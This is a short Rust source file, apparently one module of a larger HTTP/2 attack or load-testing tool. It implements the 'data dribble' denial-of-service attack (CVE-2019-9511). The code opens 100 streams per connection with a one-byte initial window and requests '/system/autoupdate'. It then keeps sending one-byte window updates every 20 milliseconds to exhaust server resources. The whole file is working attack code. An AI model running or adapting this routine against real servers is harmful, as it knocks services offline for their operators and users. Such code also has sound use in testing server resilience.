//! HTTP/2 clients that leave room for one byte at a time (CVE-2019-9511).

use std::time::Duration;

use tokio::time::sleep;

use super::super::attacker::{Attacker, Sent};
use super::super::ends::Ends;
use super::super::frames::{INITIAL_WINDOW_SIZE, get, window_update};
use super::super::http2::{Connection, id};

/// How many streams each connection opens.
const STREAMS: u32 = 100;

/// The pause between two bytes for each stream.
const PAUSE: Duration = Duration::from_millis(20);

/// Opens streams with a window of one byte, and makes room for the next byte of each.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    attacker
        .with_each(|attacker, stream| async move {
            let mut connection = Connection::begin(attacker.clone(), stream, &[(INITIAL_WINDOW_SIZE, 1)]).await;
            let streams: Vec<u8> = (0..STREAMS).flat_map(|index| get(id(index), "/system/autoupdate")).collect();
            connection.send(&streams).await;
            let room: Vec<u8> = (0..STREAMS).flat_map(|index| window_update(id(index), 1)).collect();
            while !attacker.is_over() && connection.send(&room).await == Sent::Taken {
                sleep(PAUSE).await;
            }
            connection.listen().await
        })
        .await
}
